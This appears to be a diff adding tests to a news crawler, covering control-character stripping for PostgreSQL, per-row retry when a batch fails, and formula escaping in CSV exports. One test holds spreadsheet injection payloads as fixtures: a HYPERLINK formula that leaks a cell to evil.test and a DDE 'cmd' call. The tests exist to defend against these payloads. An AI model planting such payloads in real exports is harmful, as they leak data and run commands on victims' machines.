@@ -207,3 +207,134 @@ def test_a_sink_that_cannot_be_used_stops_the_crawl_in_one_line_before_it_starts
     last = run.stderr.strip().splitlines()[-1]
     assert run.returncode == 2 and last.startswith(f"news-crawler: {says}"), run.stderr[-2000:]
     assert "secret" not in run.stderr and "Traceback" not in run.stderr
+
+
+def test_text_postgresql_refuses_is_made_storable_and_every_article_of_the_batch_is_written(
+    tmp_path, redis_server, database, sina_articles
+):
+    """U+0000 and other controls from a page's JSON-LD (author, keywords, description, the
+    headline) reach every sink without them: all eight articles of the crawl are rows, the run
+    exits 0, no traceback."""
+    from tests.hostile_web import HostileWeb, article, list_page
+    from tests.test_hostile_web import feed_items, run_crawl
+
+    texts = [a for a in sina_articles if len(a["body"]) > 600][3::23][:8]
+    web = HostileWeb()
+    try:
+        for n, t in enumerate(texts):
+            head = ""
+            if n % 2 == 0:  # every other article carries what PostgreSQL refuses
+                ld = {
+                    "@type": "NewsArticle",
+                    "headline": t["title"] + "\x00",
+                    "author": {"name": "王\x00芳\x07"},
+                    "keywords": ["财经\x00", "股市"],
+                    "description": "摘要\x00\x1b内容",
+                }
+                head = f"<script type='application/ld+json'>{json.dumps(ld)}</script>"
+            web.add(f"/news/{n}.html", article(t["title"], t["body"], head=head))
+        start = web.add("/list.html", list_page([f"/news/{n}.html" for n in range(8)]))
+        code, log = run_crawl(tmp_path, redis_server.url, "nul", [start], DATABASE_URL=database.url, DATABASE_BATCH=8)
+    finally:
+        web.stop()
+    assert code == 0 and "Traceback" not in log, log[-3000:]
+    items = feed_items(tmp_path / "nul")
+    table = rows(database.url)
+    assert len(items) == 8 and set(table) == {i["url"] for i in items}
+    authors = {r["author"] for r in table.values()}
+    assert "王芳" in authors and not any("\x00" in str(v) for r in table.values() for v in r.values())
+    assert all(same(i, table[i["url"]]) for i in items)  # the feed says what the database says
+
+
+def test_a_row_the_database_refuses_is_one_article_not_kept_never_its_batch_mates(redis_server, database, caplog):
+    """A batch of eight in which the database refuses one row (a CHECK it fails): the batch is
+    written again row by row, seven are rows, the eighth fails alone with the reason."""
+    import asyncio
+
+    from news_crawler.crawl.counts import stat_name
+    from news_crawler.pipelines.delivery import SinkError
+    from news_crawler.pipelines.postgres import PostgresPipeline, open_pool
+    from tests.crawl_helpers import project_crawler
+
+    pool = open_pool(database.url, 2, 5)
+    with psycopg.connect(database.url, autocommit=True) as conn:
+        conn.execute("ALTER TABLE articles ADD CONSTRAINT no_refuse CHECK (title NOT LIKE '%refuse%')")
+    crawler = project_crawler(settings_dict={"REDIS_URL": redis_server.url})
+    pipeline = PostgresPipeline(crawler, pool, batch=8, timeout=5)
+    items = [
+        {
+            "url": f"http://a.test/{n}",
+            "site": "a",
+            "title": "refuse" if n == 5 else f"t{n}",
+            "crawled_at": "2026-12-01T10:00:00+08:00",
+        }
+        for n in range(8)
+    ]
+
+    async def main():
+        return await asyncio.gather(*(pipeline.process_item(i) for i in items), return_exceptions=True)
+
+    try:
+        results = asyncio.run(main())
+    finally:
+        pipeline.close_spider()
+    failed = [r for r in results if isinstance(r, BaseException)]
+    assert len(failed) == 1 and isinstance(failed[0], SinkError)
+    assert "CheckViolation" in str(failed[0]) and "http://a.test/5" in str(failed[0])
+    assert set(rows(database.url)) == {f"http://a.test/{n}" for n in range(8) if n != 5}
+    written, failed_n = (crawler.stats.get_value(stat_name("postgres", w)) for w in ("written", "failed"))
+    assert (written, failed_n) == (7, 1)
+
+
+def test_a_csv_feed_holds_no_live_formula_from_a_page(tmp_path, redis_server, sina_articles):
+    """Cells a page controls that a spreadsheet would run (=HYPERLINK, +cmd, -, @SUM) reach a
+    CSV written through FEEDS with a leading ', lists as JSON cells; the JSON feed unchanged."""
+    import csv
+
+    from tests.hostile_web import HostileWeb, article, list_page
+    from tests.test_hostile_web import feed_items, run_crawl
+
+    t = [a for a in sina_articles if len(a["body"]) > 600][7]
+    title = '=HYPERLINK("http://evil.test/?"&A1,"点击")' + t["title"]
+    ld = {
+        "@type": "NewsArticle",
+        "headline": title,
+        "description": "+cmd|' /C calc'!A0",
+        "keywords": ["@SUM(1+1)*cmd", "-2+3", t["body"][:4]],  # one of the article's: the page's own
+    }
+    web = HostileWeb()
+    try:
+        head = f"<script type='application/ld+json'>{json.dumps(ld)}</script>"
+        web.add("/news/1.html", article(title, t["body"], head=head))
+        start = web.add("/list.html", list_page(["/news/1.html"]))
+        feeds = json.dumps({str(tmp_path / "out.csv"): {"format": "csv"}})
+        code, log = run_crawl(tmp_path, redis_server.url, "csv", [start], FEEDS=feeds)
+    finally:
+        web.stop()
+    assert code == 0, log[-3000:]
+    [item] = feed_items(tmp_path / "csv")
+    assert item["title"].startswith("=HYPERLINK") and item["description"].startswith("+cmd")  # JSON: as the page said
+    with open(tmp_path / "out.csv", newline="", encoding="utf-8") as f:
+        [line] = list(csv.DictReader(f))
+    assert line["title"] == "'" + item["title"] and line["description"] == "'" + item["description"]
+    assert json.loads(line["tags"]) == item["tags"] and "@SUM(1+1)*cmd" in item["tags"]
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in line.values())
+
+
+def test_the_csv_escape_can_be_turned_off_and_applies_to_every_first_character():
+    import csv
+    import io
+
+    from news_crawler.pipelines.scrapy_feeds import CsvExporter
+
+    def written(escape: bool, value: object) -> str:
+        out = io.BytesIO()
+        exporter = CsvExporter(out, escape_formulas=escape, fields_to_export=["a"])
+        exporter.start_exporting()
+        exporter.export_item({"a": value})
+        exporter.finish_exporting()
+        return list(csv.reader(io.StringIO(out.getvalue().decode(), newline="")))[1][0]
+
+    for first in ("=", "+", "-", "@", "\t", "\r"):
+        assert written(True, first + "1") == "'" + first + "1" and written(False, first + "1") == first + "1"
+    assert written(True, "a=1") == "a=1" and written(True, ["x", 1]) == '["x", 1]'
